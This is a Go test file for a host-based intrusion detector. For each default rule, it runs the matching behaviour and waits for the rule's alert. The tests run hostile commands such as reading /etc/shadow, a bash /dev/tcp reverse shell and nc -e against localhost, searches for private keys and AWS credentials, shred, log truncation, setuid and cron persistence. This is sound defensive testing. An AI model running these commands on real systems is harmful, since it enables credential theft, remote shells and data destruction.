package pipeline

import (
	"crypto/rand"
	"encoding/hex"
	"errors"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
)

// hostCase is one behaviour performed on the host by a child process.
type hostCase struct {
	name string
	// run performs the behaviour and returns the pid of the process whose
	// alert (its own or a descendant's) the test waits for.
	run  func(t *testing.T) int
	want []expect
}

// TestDefaultRulesOnHost performs, for each default rule about host
// activity, the behaviour it detects and waits for its alert.
func TestDefaultRulesOnHost(t *testing.T) {
	det.need(t)
	dir := t.TempDir()
	for _, c := range hostCases(t, dir) {
		t.Run(c.name, func(t *testing.T) {
			from := det.mark()
			pid := c.run(t)
			for _, w := range c.want {
				waitRule(t, from, pid, w)
			}
		})
	}
}

func hostCases(t *testing.T, dir string) []hostCase {
	suffix := randomSuffix(t)
	ncPort := strconv.Itoa(listen(t))
	return []hostCase{
		{
			name: "cat /etc/shadow",
			run:  func(t *testing.T) int { return run(t, exec.Command("cat", "/etc/shadow"), 0) },
			want: []expect{{rule: "Read sensitive file untrusted", fields: map[string]string{
				"fd.name": "/etc/shadow", "proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "container.id": "host"}}},
		},
		{
			name: "create a file below /etc",
			run: func(t *testing.T) int {
				path := "/etc/nightjar-test-" + suffix
				t.Cleanup(func() { os.Remove(path) })
				return run(t, exec.Command("touch", path), 0)
			},
			want: []expect{{rule: "Write below etc", fields: map[string]string{
				"fd.name": "/etc/nightjar-test-" + suffix, "proc.name": "touch"}}},
		},
		{
			name: "create a file below /usr/bin",
			run: func(t *testing.T) int {
				path := "/usr/bin/nightjar-test-" + suffix
				t.Cleanup(func() { os.Remove(path) })
				return run(t, exec.Command("touch", path), 0)
			},
			want: []expect{{rule: "Write below binary dir", fields: map[string]string{
				"fd.name": "/usr/bin/nightjar-test-" + suffix, "proc.name": "touch"}}},
		},
		{
			name: "execute a binary copied to /dev/shm",
			run: func(t *testing.T) int {
				path := "/dev/shm/nightjar-true-" + suffix
				copyFile(t, "/bin/true", path, 0o755)
				t.Cleanup(func() { os.Remove(path) })
				return run(t, exec.Command(path), 0)
			},
			want: []expect{{rule: "Execution from /dev/shm", fields: map[string]string{
				"proc.exepath": "/dev/shm/nightjar-true-" + suffix}}},
		},
		{
			name: "execute a binary copied to /tmp",
			run: func(t *testing.T) int {
				path := filepath.Join(dir, "dropped-true")
				copyFile(t, "/bin/true", path, 0o755)
				// Started by a shell: a program that itself runs from a
				// temporary directory (this test binary) starting another
				// one there raises no new alert.
				return run(t, exec.Command("sh", "-c", path+"; :"), 0)
			},
			want: []expect{{rule: "Execution from temporary directory", fields: map[string]string{
				"proc.exepath": filepath.Join(dir, "dropped-true")}}},
		},
		{
			name: "fexecve of a memfd",
			run:  func(t *testing.T) int { return run(t, helperCmd("memfd-exec"), 0) },
			want: []expect{{rule: "Fileless execution via memfd_create", fields: map[string]string{
				"proc.exepath": "/memfd:nightjar-fileless"}}},
		},
		{
			name: "PTRACE_ATTACH to a child",
			run:  func(t *testing.T) int { return run(t, helperCmd("ptrace-attach"), 0) },
			want: []expect{{rule: "PTRACE attached to process", fields: map[string]string{
				"evt.arg.request": "PTRACE_ATTACH"}}},
		},
		{
			name: "PTRACE_TRACEME",
			run:  func(t *testing.T) int { return run(t, helperCmd("ptrace-traceme"), 0) },
			want: []expect{{rule: "PTRACE anti-debug attempt"}},
		},
		{
			name: "init_module and finit_module",
			run:  func(t *testing.T) int { return run(t, helperCmd("kernel-module", "/dev/null"), 0) },
			want: []expect{
				{rule: "Kernel module loaded", fields: map[string]string{"evt.type": "init_module"}},
				{rule: "Kernel module loaded", fields: map[string]string{"evt.type": "finit_module"}},
			},
		},
		{
			name: "truncate a log file",
			run: func(t *testing.T) int {
				path := "/var/log/nightjar-test-" + suffix + ".log"
				if err := os.WriteFile(path, []byte("Jan  1 00:00:00 host sshd[1]: Accepted publickey\n"), 0o640); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.Remove(path) })
				pid := run(t, exec.Command("sh", "-c", ": > "+path), 0)
				if fi, err := os.Stat(path); err != nil || fi.Size() != 0 {
					t.Fatalf("log not truncated: %v %v", fi, err)
				}
				return pid
			},
			want: []expect{{rule: "Clear Log Activities", fields: map[string]string{
				"fd.name": "/var/log/nightjar-test-" + suffix + ".log"}}},
		},
		{
			name: "symlink to /etc/shadow",
			run: func(t *testing.T) int {
				return run(t, exec.Command("ln", "-s", "/etc/shadow", filepath.Join(dir, "shadow-symlink")), 0)
			},
			want: []expect{{rule: "Create Symlink Over Sensitive Files", fields: map[string]string{
				"evt.arg.target": "/etc/shadow"}}},
		},
		{
			name: "hard link to /etc/shadow",
			run: func(t *testing.T) int {
				// A hard link must stay on the file system of /etc.
				ldir := sameFSDir(t, "/etc", dir)
				path := filepath.Join(ldir, "nightjar-shadow-link-"+suffix)
				t.Cleanup(func() { os.Remove(path) })
				return run(t, exec.Command("ln", "/etc/shadow", path), 0)
			},
			want: []expect{{rule: "Create Hardlink Over Sensitive Files", fields: map[string]string{
				"evt.arg.oldpath": "/etc/shadow"}}},
		},
		{
			name: "AF_PACKET socket on the host",
			run:  func(t *testing.T) int { return run(t, helperCmd("packet-socket"), 0) },
			want: []expect{{rule: "Packet socket created on host", fields: map[string]string{
				"evt.arg.domain": "AF_PACKET"}}},
		},
		{
			name: "reverse shell: stdin and stdout on a TCP connection",
			run: func(t *testing.T) int {
				port := listen(t)
				script := "exec 3<>/dev/tcp/127.0.0.1/" + strconv.Itoa(port) + "; exec 0<&3 1>&3; echo connected"
				return run(t, exec.Command("bash", "-c", script), 0)
			},
			want: []expect{{rule: "Redirect STDOUT/STDIN to Network Connection", fields: map[string]string{
				"proc.name": "bash"}}},
		},
		{
			name: "nc -e",
			run: func(t *testing.T) int {
				// busybox's nc, installed under the name nc; what follows
				// -e is the program and its arguments.
				nc := filepath.Join(dir, "nc")
				if err := os.Symlink(busybox(t), nc); err != nil {
					t.Fatal(err)
				}
				return run(t, exec.Command(nc, "127.0.0.1", ncPort, "-e", "/bin/true"), 0)
			},
			want: []expect{{rule: "Netcat Remote Code Execution", fields: map[string]string{
				"proc.cmdline": "nc 127.0.0.1 " + ncPort + " -e /bin/true"}}},
		},
		{
			name: "find private keys",
			run: func(t *testing.T) int {
				return run(t, exec.Command("find", dir, "-name", "id_rsa"), 0)
			},
			want: []expect{{rule: "Search Private Keys or Passwords", fields: map[string]string{
				"proc.cmdline": "find " + dir + " -name id_rsa"}}},
		},
		{
			name: "grep for private key headers",
			run: func(t *testing.T) int {
				return run(t, exec.Command("grep", "-r", "BEGIN RSA PRIVATE KEY", dir), 1)
			},
			want: []expect{{rule: "Search Private Keys or Passwords"}},
		},
		{
			name: "grep for AWS keys",
			run: func(t *testing.T) int {
				return run(t, exec.Command("grep", "-r", "aws_secret_access_key", dir), 1)
			},
			want: []expect{{rule: "Find AWS Credentials"}},
		},
		{
			name: "find Google Cloud credentials",
			run: func(t *testing.T) int {
				return run(t, exec.Command("find", dir, "-name", "application_default_credentials.json"), 0)
			},
			want: []expect{{rule: "Find Cloud Credentials"}},
		},
		{
			name: "shred a file",
			run: func(t *testing.T) int {
				path := filepath.Join(dir, "secret.db")
				if err := os.WriteFile(path, []byte("customer records\n"), 0o600); err != nil {
					t.Fatal(err)
				}
				return run(t, exec.Command("shred", "-u", path), 0)
			},
			want: []expect{{rule: "Remove Bulk Data from Disk", fields: map[string]string{
				"proc.cmdline": "shred -u " + filepath.Join(dir, "secret.db")}}},
		},
		{
			name: "ssh to port other than 22",
			run: func(t *testing.T) int {
				port := listenAndClose(t)
				cmd := exec.Command("ssh", "-p", strconv.Itoa(port), "-o", "BatchMode=yes",
					"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
					"-o", "ConnectTimeout=5", "-F", "/dev/null", "nobody@127.0.0.1", "true")
				// The listener is not an SSH server: ssh fails after connecting.
				return run(t, cmd, 255)
			},
			want: []expect{{rule: "Disallowed SSH Connection Non Standard Port", fields: map[string]string{
				"fd.sip": "127.0.0.1"}}},
		},
		{
			name: "chmod u+s",
			run: func(t *testing.T) int {
				path := filepath.Join(dir, "suid-true")
				copyFile(t, "/bin/true", path, 0o755)
				return run(t, exec.Command("chmod", "u+s", path), 0)
			},
			want: []expect{{rule: "Set Setuid or Setgid bit", fields: map[string]string{"proc.name": "chmod"}}},
		},
		{
			name: "nsenter",
			run: func(t *testing.T) int {
				return run(t, exec.Command("nsenter", "-t", strconv.Itoa(os.Getpid()), "-u", "true"), 0)
			},
			want: []expect{{rule: "Change thread namespace", fields: map[string]string{"proc.name": "nsenter"}}},
		},
		{
			name: "unshare",
			run:  func(t *testing.T) int { return run(t, exec.Command("unshare", "-u", "true"), 0) },
			want: []expect{{rule: "Unshare namespace by unexpected program", fields: map[string]string{"proc.name": "unshare"}}},
		},
		{
			name: "write a file in /etc/cron.d",
			run: func(t *testing.T) int {
				if _, err := os.Stat("/etc/cron.d"); errors.Is(err, os.ErrNotExist) {
					if err := os.Mkdir("/etc/cron.d", 0o755); err != nil {
						t.Fatal(err)
					}
					t.Cleanup(func() { os.Remove("/etc/cron.d") })
				}
				path := "/etc/cron.d/nightjar-test-" + suffix
				t.Cleanup(func() { os.Remove(path) })
				return run(t, exec.Command("sh", "-c", "echo '* * * * * root true' > "+path), 0)
			},
			want: []expect{{rule: "Schedule Cron Jobs", fields: map[string]string{
				"fd.name": "/etc/cron.d/nightjar-test-" + suffix}}},
		},
		{
			name: "crontab FILE",
			run: func(t *testing.T) int {
				// busybox's crontab, writing to a spool directory of the test.
				crontab := filepath.Join(dir, "crontab")
				if err := os.Symlink(busybox(t), crontab); err != nil {
					t.Fatal(err)
				}
				spool := filepath.Join(dir, "spool")
				tab := filepath.Join(dir, "tab")
				if err := os.Mkdir(spool, 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(tab, []byte("*/5 * * * * true\n"), 0o600); err != nil {
					t.Fatal(err)
				}
				return run(t, exec.Command(crontab, "-c", spool, tab), 0)
			},
			want: []expect{{rule: "Schedule Cron Jobs", fields: map[string]string{"proc.name": "crontab"}}},
		},
	}
}

// run runs cmd to its end and returns its pid. The command must exit with
// status code (0 or the failure its behaviour implies).
func run(t *testing.T, cmd *exec.Cmd, code int) int {
	t.Helper()
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	switch {
	case err == nil && code == 0:
	case errors.As(err, &ee) && ee.ExitCode() == code:
	default:
		t.Fatalf("%s: %v (want exit status %d): %s", cmd, err, code, out)
	}
	return cmd.Process.Pid
}

func randomSuffix(t *testing.T) string {
	var b [6]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b[:])
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, mode); err != nil {
		t.Fatal(err)
	}
}

func busybox(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("busybox")
	if err != nil {
		t.Fatal("busybox not found: apt-get install busybox-static")
	}
	return path
}

// sameFSDir returns a directory on the file system of ref: dir when it is
// there, else ref itself.
func sameFSDir(t *testing.T, ref, dir string) string {
	t.Helper()
	var a, b syscall.Stat_t
	if err := syscall.Stat(ref, &a); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Stat(dir, &b); err != nil {
		t.Fatal(err)
	}
	if a.Dev == b.Dev {
		return dir
	}
	return ref
}

// listen returns the port of a TCP listener on 127.0.0.1 that accepts
// connections and reads them to their end.
func listen(t *testing.T) int { return tcpListener(t, false) }

// listenAndClose returns the port of a TCP listener on 127.0.0.1 that
// closes every connection it accepts.
func listenAndClose(t *testing.T) int { return tcpListener(t, true) }

func tcpListener(t *testing.T, closeAtOnce bool) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				if closeAtOnce {
					return
				}
				io.Copy(io.Discard, c)
			}()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port
}
